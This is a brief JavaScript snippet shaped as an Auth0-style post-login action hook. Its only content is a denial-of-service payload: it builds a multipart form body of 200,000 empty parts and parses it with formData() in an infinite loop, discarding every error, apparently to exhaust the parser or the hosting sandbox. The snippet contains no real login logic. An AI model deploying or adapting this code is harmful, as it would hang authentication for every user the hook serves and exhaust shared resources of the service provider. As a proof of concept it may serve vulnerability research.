exports.onExecutePostLogin = async function (event, api) {
  const part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n"; const body = part.repeat(200000) + "--b--"; for (;;) try { await new Response(body, { headers: { "content-type": "multipart/form-data; boundary=b" } }).formData(); } catch (e) {}
};
